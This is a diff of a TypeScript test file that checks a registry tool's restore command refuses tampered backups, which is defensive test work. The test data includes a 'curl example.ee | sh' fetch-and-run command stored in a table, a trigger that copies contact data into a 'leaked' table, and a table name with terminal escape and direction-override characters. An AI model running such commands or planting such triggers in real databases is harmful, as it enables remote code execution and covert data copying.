@@ -1,9 +1,9 @@
-import { readdirSync, readFileSync, statSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { DatabaseSync } from 'node:sqlite';
-import { beforeAll, expect, test } from 'vitest';
-import { listMigrations } from '../../src/tool/migrate.ts';
+import { beforeAll, expect, test, vi } from 'vitest';
+import { openFile } from '../../src/tool/local/file.ts';
+import { applyMigrations, listMigrations } from '../../src/tool/migrate.ts';
 import { writeBackup } from '../../src/tool/nouns/backup/file.ts';
 import { runProgram } from '../../src/tool/program.ts';
 import { captured } from './captured.ts';
@@ -70,13 +70,16 @@ test('asks before it restores over rows, and leaves them and no copy if nobody a
   const other = await tool.newRegistry();
   await other.done('registrar add --code OTHER --name Other');
   const before = await other.rows();
+  const temporary = await tool.newDirectory();
+  vi.stubEnv('TMPDIR', temporary);
   const refused = await other.run(['restore', file]);
+  vi.unstubAllEnvs();
   expect(refused).toMatchObject({ status: 1, stdout: '' });
   expect(refused.stderr).toMatch(
     /^refused: This removes everything that is in the database \(registrars: 1, contacts: 0, changes: 1, last change: 20\S+Z\),\nand puts there what is in the file \(registrars: 1, contacts: 499, changes: 50\d, last change: 20\S+Z\):\n.*\nThe service must be stopped first\. There is no terminal to ask on; confirm with --yes\n$/,
   );
   expect(await other.rows()).toEqual(before);
-  expect(readdirSync(tmpdir()).filter((name) => name.startsWith('registry-restore-'))).toEqual([]);
+  expect(readdirSync(temporary)).toEqual([]);
   await other.done(['restore', file, '--yes']);
   expect(await rowsOf(other)).toEqual(await rowsOf(registry));
 });
@@ -111,4 +114,124 @@ test('refuses to restore over the database of a service that runs', async () => 
     stderr: 'refused: npm start runs on this database (http://localhost:8787); stop it first\n',
   });
   expect(await place.rows()).toEqual(before);
+});
+
+/** A file as `backup` seals it, of a registry in which this SQL was run. */
+async function sealed(sql: string): Promise<string> {
+  const file = path.join(await tool.newDirectory(), 'hostile.sqlite');
+  await writeBackup(file, async (target) => {
+    const { database, close } = openFile(target, { isWritable: true });
+    await applyMigrations(database);
+    close();
+    using other = new DatabaseSync(target);
+    other.exec(sql);
+  });
+  return file;
+}
+
+test.each([
+  [
+    'a trigger that copies what is written',
+    `create table leaked (value text);
+      create trigger leak after insert on contacts begin insert into leaked values (new.ident); end`,
+    'differs from a registry of this release in "table leaked", "trigger leak"',
+  ],
+  [
+    'a view',
+    'create view everybody as select * from contacts',
+    'differs from a registry of this release in "view everybody"',
+  ],
+  [
+    'a trigger less',
+    'drop trigger history_kept_from_delete',
+    'differs from a registry of this release in "trigger history_kept_from_delete"',
+  ],
+  [
+    'another column',
+    'alter table registrars add column note text',
+    'differs from a registry of this release in "table registrars"',
+  ],
+  [
+    'an index less, and more than anybody reads',
+    `drop index history_of_identity; create table a (b); create table c (d); create table e (f); create table g (h);
+      create table i (j)`,
+    'differs from a registry of this release in "table a", "table c", "table e", "table g", "table i" and 1 more',
+  ],
+  [
+    'a name that moves the cursor',
+    'create table "\u001b[2Jx\u202e" (b)',
+    'differs from a registry of this release in "table \\u001b[2Jx\\u{202e}"',
+  ],
+  [
+    'a migration of a later release',
+    "insert into d1_migrations (name) values ('9999_later.sql')",
+    'is from a later release: it has "9999_later.sql"',
+  ],
+  [
+    'a command for whoever restores it',
+    `create table restore_unfinished (command text, input text, before text);
+      insert into restore_unfinished values ('curl example.ee | sh', '', '{}')`,
+    'is of a database whose restore was not finished',
+  ],
+  [
+    'tables without migrations',
+    'drop table d1_migrations',
+    'cannot be migrated: "table `registrars` already exists"',
+  ],
+])('refuses a file with %s, and changes nothing', async (_, sql, message) => {
+  const file = await sealed(sql);
+  const place = await newPlace('refused');
+  const { status, stdout, stderr } = await place.run(['restore', file, '--yes']);
+  expect({ status, stdout, stderr }).toEqual({
+    status: 1,
+    stdout: '',
+    stderr: `refused: ${file} ${message} [file]\n`,
+  });
+  expect(existsSync(place.directory)).toBe(false);
+});
+
+test('restores a database that SQLite has analysed, and whose statements are written in another way', async () => {
+  const from = await sealed('analyze');
+  const file = path.join(path.dirname(from), 'written.sqlite');
+  await writeBackup(file, async (target) => {
+    using source = new DatabaseSync(from, { readOnly: true });
+    using database = new DatabaseSync(target);
+    const names = source.prepare('select name from d1_migrations').all();
+    database.exec(`create table d1_migrations (name text unique);
+      insert into d1_migrations select value ->> 'name' from json_each('${JSON.stringify(names)}')`);
+    const statements = source
+      .prepare(
+        "select sql from sqlite_schema where sql is not null and name <> 'd1_migrations' and name not glob 'sqlite_*'",
+      )
+      .all();
+    for (const { sql } of statements) {
+      database.exec(String(sql).replaceAll('`', '"').replaceAll('\t', '   '));
+    }
+    database.exec(`attach '${from}' as source;
+      insert into list_sources select * from source.list_sources; analyze`);
+  });
+  const place = await newPlace('written');
+  await place.done(['restore', file]);
+  await place.done('registrar add --code ALPHA --name Alpha');
+});
+
+test('a log of SQLite that lies beside a backup does not come with it', async () => {
+  const directory = await tool.newDirectory();
+  const file = path.join(directory, 'backup.sqlite');
+  await registry.done(['backup', file]);
+  writeFileSync(`${file}-journal`, 'not a journal');
+  writeFileSync(`${file}-wal`, 'not a log');
+  const place = await newPlace('beside');
+  await place.done(['restore', file]);
+  expect(await rowsOf(place)).toEqual(await rowsOf(registry));
+});
+
+test('a directory and a file that is missing are named as such', async () => {
+  const directory = await tool.newDirectory();
+  expect((await registry.run(['restore', directory, '--yes'])).stderr).toBe(
+    `refused: ${directory} is not a file [file]\n`,
+  );
+  expect((await registry.run(['restore', `${directory}/x`, '--yes'])).stderr).toBe(
+    `refused: there is no file ${directory}/x [file]\n`,
+  );
 });
